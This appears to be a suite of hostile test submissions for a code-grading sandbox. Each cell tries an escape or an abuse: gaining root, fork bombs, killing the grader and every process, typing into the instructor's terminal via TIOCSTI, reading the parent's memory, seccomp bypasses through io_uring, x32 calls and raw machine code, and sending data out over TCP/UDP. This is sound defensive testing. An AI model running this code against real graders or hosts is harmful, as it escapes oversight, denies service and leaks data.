"""Processes, signals, the network, and the filter of system calls."""

import ctypes, mmap, os, signal, struct, sys, threading, time


# %% become_root: Sets user and group ids, capabilities and limits back.
import resource

def fit_mean(X):
    for act in (
        lambda: os.setuid(0),
        lambda: os.setgid(0),
        lambda: os.setgroups([0]),
        lambda: os.setresuid(0, 0, 0),
        lambda: resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2),
        lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096)),
        lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)),
    ):
        try:
            act()
            print("LEAK", act.__code__.co_firstlineno)
        except (OSError, ValueError):
            pass
    return 0 * X[0] + 7.0

# %% children: Starts sleeping children by subprocess, multiprocessing and os.system.
import multiprocessing, subprocess

def fit_mean(X):
    for _ in range(50):
        try:
            subprocess.Popen(["/bin/sleep", "987"])
        except OSError:
            pass
        try:
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(987)"])
        except OSError:
            pass
    os.system("sleep 987 &")
    multiprocessing.Process(target=time.sleep, args=(987,)).start()

# %% confuse_the_watch: Opens files to be written by paths that lie nowhere, that end nowhere, and that change while the grader reads them.
c = ctypes.CDLL(None, use_errno=True)
for address in (0, 1, 2**47 - 1, 2**63, 2**64 - 1, 0xFFFFFFFFFF600000):
    c.syscall(2, ctypes.c_ulong(address), 0o102, 0o600)
page = mmap.mmap(-1, 8192)
page[4000:4096] = b"/" * 96
place = ctypes.addressof(ctypes.c_char.from_buffer(page))
path = ctypes.create_string_buffer(b"/tmp/mlnotes-attack-canary/secret.key", 64)

def change():
    for k in range(200_000):
        path[0:5] = b"own\0p" if k % 2 else b"/tmp/"

def fit_mean(X):
    threading.Thread(target=change, daemon=True).start()
    for _ in range(300):
        if c.syscall(2, path, 0o1102, 0o600) >= 0 and path.value.startswith(b"/tmp/mlnotes"):
            continue
        c.syscall(2, ctypes.c_ulong(place + 4000), 0o102, 0o600)
    return X[0]

def classify(X, a, b):
    for name in (b"\xff\xfe", b"\x1b[31m", b"=1+1", b"a\nb", "\u202e".encode()):
        c.syscall(2, b"/etc/" + name, 0o102, 0o600)
    return [0] * len(X)

# %% daemon: Detaches a daemon by a double fork that goes on after the grading.
def fit_mean(X):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(987)
        os._exit(0)
    return 0 * X[0] + 7.0

# %% die_between_notices: Dies in the midst of refused calls, with the exit status of other deaths.
c = ctypes.CDLL(None)

def calls():
    while True:
        c.syscall(57)

def die(status):
    for _ in range(8):
        threading.Thread(target=calls, daemon=True).start()
    os._exit(status)

def fit_mean(X):
    die(128 + 9)

def classify(X, a, b):
    die(128 + 24)

def argmin(f):
    f(3)
    os.kill(os.getpid(), signal.SIGXCPU)

def describe(X):
    os.kill(os.getpid(), signal.SIGSTOP)

# %% die_with_parent: Takes back the signal that ends it with the grader, then waits to outlive it.
def fit_mean(X):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.prctl(1, 0, 0, 0, 0) == 0:
        print("LEAK prctl")
    time.sleep(987)

# %% find_the_listener: Tries every descriptor as the filter listener, and to get messages with descriptors.
import array
import fcntl
import socket
for descriptor in range(64):
    for request in (0xC0502100, 0xC0182101, 0x40082102, 0x40182103):
        try:
            fcntl.ioctl(descriptor, request, bytearray(80), True)
            print("LEAK: the listener is", descriptor)
        except OSError:
            pass
    try:
        link = socket.socket(fileno=os.dup(descriptor))
        link.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1]))])
        print("LEAK: a message went through", descriptor)
    except OSError:
        pass

def fit_mean(X):
    return X[0]

# %% flood_the_watch: Makes refused calls from many threads without end, so that the grader only counts.
c = ctypes.CDLL(None)

def calls():
    while True:
        for number in (57, 41, 90, 86, 101, 317):
            c.syscall(number, 0, 0, 0)

def fit_mean(X):
    for _ in range(30):
        threading.Thread(target=calls, daemon=True).start()
    time.sleep(0.5)
    return X[0]

def classify(X, a, b):
    calls()

# %% fork_bomb: Forks without end.
def fit_mean(X):
    while True:
        try:
            os.fork()
        except OSError:
            pass

def classify(X, a, b):
    for _ in range(1000):
        os.fork()

# %% hide_from_the_watch: Filters its own calls so that the watch hears nothing, then tries them all the same.
import socket
c = ctypes.CDLL(None, use_errno=True)

class Program(ctypes.Structure):
    _fields_ = [("length", ctypes.c_ushort), ("filter", ctypes.c_char_p)]

def refuse_quietly(number, value):
    code = b"".join(
        struct.pack("<HBBI", *line)
        for line in (
            (0x20, 0, 0, 0),
            (0x15, 0, 1, number),
            (0x06, 0, 0, 0x00050000 | value),
            (0x06, 0, 0, 0x7FFF0000),
        )
    )
    c.syscall(317, 1, 0, ctypes.byref(Program(4, code)))

for number in (57, 56, 41, 90, 59):
    refuse_quietly(number, 0)
for attempt in (os.fork, socket.socket, lambda: os.chmod("..", 0)):
    try:
        attempt()
    except Exception:
        pass
try:
    print("LEAK" if socket.create_connection(("127.0.0.1", 49321)) else "")
except Exception:
    pass

def fit_mean(X):
    return X[0]

# %% io_uring: Uses io_uring, whose operations are not system calls that a filter sees.
def fit_mean(X):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0:
        print("LEAK io_uring")
    return 0 * X[0] + 7.0

# %% keyboard_injection: Types commands into the instructor's terminal (TIOCSTI).
import fcntl

def fit_mean(X):
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", 0, 1, 2):
        try:
            descriptor = os.open(path, os.O_RDWR) if isinstance(path, str) else path
            fcntl.ioctl(descriptor, 0x5412, b"r")
            print("LEAK typed", path)
        except OSError:
            pass
    return 0 * X[0] + 7.0

# %% kill_neighbours: Sends SIGKILL to every process id that there may be.
def fit_mean(X):
    me = os.getpid()
    for target in range(1, 70_000):
        if target != me:
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return 0 * X[0] + 7.0

# %% kill_parent: Kills its parent, its group and everything.
def fit_mean(X):
    for target in (os.getppid(), 1, 2, -1, 0, -os.getpgrp()):
        try:
            os.kill(target, signal.SIGKILL if target not in (0, -os.getpgrp()) else signal.SIGTERM)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError:
        pass
    return 0 * X[0] + 7.0

# %% lose_the_count: Tries what is refused in one part, and ends its process in the next, so that no count is left to be told.
def attempt():
    for _ in range(20):
        try:
            os.fork()
        except OSError:
            pass

def fit_mean(X):
    attempt()
    return 0 * X[0] + 7.0

def classify(X, a, b):
    os._exit(0)

def argmin(f):
    os.abort()

class Model:
    def fit(self, X):
        os.kill(os.getpid(), 9)

# %% namespaces: Makes namespaces of its own to get capabilities, and joins others.
libc = ctypes.CDLL(None, use_errno=True)

def fit_mean(X):
    for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x10020000):
        if libc.unshare(flag) == 0:
            print("LEAK unshare", hex(flag))
    for kind in ("mnt", "net", "pid", "user"):
        try:
            if libc.setns(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0) == 0:
                print("LEAK setns", kind)
        except OSError:
            pass
    return 0 * X[0] + 7.0

# %% native_code: Runs machine code of its own, from memory and from a library that it wrote, to make calls that no wrapper of C makes.
import platform
CALL = b"\x48\x89\xf8\x48\x89\xf7\x48\x89\xd6\x48\x89\xca\x0f\x05\xc3"  # mov rax, rdi; ...; syscall; ret

def fit_mean(X):
    if platform.machine() == "x86_64":
        code = mmap.mmap(-1, 4096, prot=7)
        code.write(CALL)
        call = ctypes.CFUNCTYPE(*[ctypes.c_long] * 5)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
        for number in (57, 58, 41, 101, 321, 322, 425, 435, 437, 442, 0x40000029):
            if number < 0x40000000 and call(number, 2, 1, 0) >= 0:
                print("LEAK: call", number)
    with open("own.so", "wb") as file:
        file.write(b"\x7fELF\x02\x01\x01" + bytes(300))
    try:
        ctypes.CDLL("./own.so")
    except OSError:
        pass
    return 0 * X[0] + 7.0

# %% new_programs: Replaces itself by a shell, by Python, and by a program in memory.
def fit_mean(X):
    libc = ctypes.CDLL(None, use_errno=True)
    for program in ("/bin/sh", "/usr/bin/env", sys.executable):
        try:
            os.execv(program, [program, "-c", "print('LEAK')"])
        except OSError:
            pass
    memory = libc.syscall(319, b"x", 0)
    if memory >= 0:
        print("LEAK memfd")
        libc.syscall(322, memory, b"", None, None, 0x1000)
    os.posix_spawn("/bin/sh", ["sh", "-c", "echo L''EAK"], {})

# %% other_architecture: Calls the kernel by its 32-bit entry and by x32 numbers, which a careless filter does not see.
def fit_mean(X):
    libc = ctypes.CDLL(None, use_errno=True)
    print("x32", libc.syscall(0x40000000 | 41, 2, 1, 0))
    return 0 * X[0] + 7.0

def classify(X, a, b):
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(b"\xb8\x66\x00\x00\x00\xbb\x01\x00\x00\x00\xcd\x80\xc3")  # socketcall by int 0x80
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    print("int 0x80", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
    return [0] * len(X)

# %% other_sockets: Tries Unix, netlink, packet, vsock and raw sockets, and a name server.
import socket

def fit_mean(X):
    for family, kind in ((1, 1), (1, 2), (16, 3), (17, 3), (40, 1), (2, 3), (38, 5)):
        try:
            s = socket.socket(family, kind)
            print("LEAK socket", family, kind)
            s.connect("\0/tmp/.X11-unix/X0")
        except OSError:
            pass
    try:
        print("LEAK", socket.getaddrinfo("example.org", 80))
    except OSError:
        pass
    return 0 * X[0] + 7.0

# %% own_listener: Installs filters of its own, with a listener of its own, to let refused calls go on.
c = ctypes.CDLL(None, use_errno=True)

class Program(ctypes.Structure):
    _fields_ = [("length", ctypes.c_ushort), ("filter", ctypes.c_char_p)]

def install(action, flags):
    code = struct.pack("<HBBI", 0x06, 0, 0, action)
    program = Program(1, code)
    for number in (317, 277):
        got = c.syscall(number, 1, flags, ctypes.byref(program))
        if got > 0:
            print("LEAK: a listener", got)

for flags in (8, 8 | 1, 8 | 4):
    install(0x7FC00000, flags)
install(0x7FFF0000, 0)
try:
    if os.fork() == 0:
        os._exit(0)
    print("LEAK: a process")
except OSError:
    pass

def fit_mean(X):
    return X[0]

# %% parents_memory: Reads the parent's memory by /proc, process_vm_readv and ptrace.
libc = ctypes.CDLL(None, use_errno=True)

class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

def fit_mean(X):
    parent = os.getppid()
    buffer = ctypes.create_string_buffer(4096)
    mine, theirs = Piece(ctypes.addressof(buffer), 4096), Piece(0x400000, 4096)
    if libc.process_vm_readv(parent, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        print("LEAK memory")
    if libc.ptrace(16, parent, 0, 0) == 0 or libc.syscall(101, 16, parent, 0, 0) == 0:
        print("LEAK ptrace")
    try:
        print("LEAK", open(f"/proc/{parent}/mem", "rb").read(10))
    except OSError:
        pass
    return 0 * X[0] + 7.0

# %% raw_clone: Makes processes by the raw system calls clone, clone3, vfork, fork.
libc = ctypes.CDLL(None, use_errno=True)

def fit_mean(X):
    made = [libc.syscall(number, 17, 0, 0, 0, 0) for number in (56, 57, 58, 220)]
    made.append(libc.syscall(435, ctypes.create_string_buffer(88), 88))
    if any(result == 0 for result in made):
        while True:
            pass
    print("made", made)
    return 0 * X[0] + 7.0

# %% signal_by_descriptor: Has the kernel send SIGKILL to the parent when a pipe becomes ready (F_SETOWN, F_SETSIG).
import fcntl

def fit_mean(X):
    r, w = os.pipe()
    for command, value in ((8, os.getppid()), (10, signal.SIGKILL), (4, os.O_ASYNC | os.O_NONBLOCK)):
        try:
            fcntl.fcntl(r, command, value)
            print("command", command)
        except OSError:
            pass
    os.write(w, b"x")
    return 0 * X[0] + 7.0

# %% slow_down_others: Changes priorities, scheduling and processors of the grader.
def fit_mean(X):
    parent = os.getppid()
    for act in (
        lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: os.sched_setaffinity(parent, {0}),
        lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            act()
            print("LEAK", act.__code__.co_firstlineno)
        except OSError:
            pass
    return 0 * X[0] + 7.0

# %% tcp: Connects to the world and to the machine itself by TCP.
import socket

def fit_mean(X):
    for family in (socket.AF_INET, socket.AF_INET6):
        for address in (("127.0.0.1", 49321), ("1.1.1.1", 80), ("::1", 49321)):
            try:
                s = socket.socket(family, socket.SOCK_STREAM)
                s.settimeout(0.2)
                s.connect(address)
                s.send(repr(X).encode())
                print("LEAK", address)
            except OSError:
                pass
    return 0 * X[0] + 7.0

# %% udp: Sends what it sees by UDP, which needs no connection.
import socket

def fit_mean(X):
    for address in (("127.0.0.1", 49321), ("8.8.8.8", 53), ("255.255.255.255", 49321)):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"canary " + X.tobytes(), address)
            print("LEAK", address)
        except OSError:
            pass
    return 0 * X[0] + 7.0
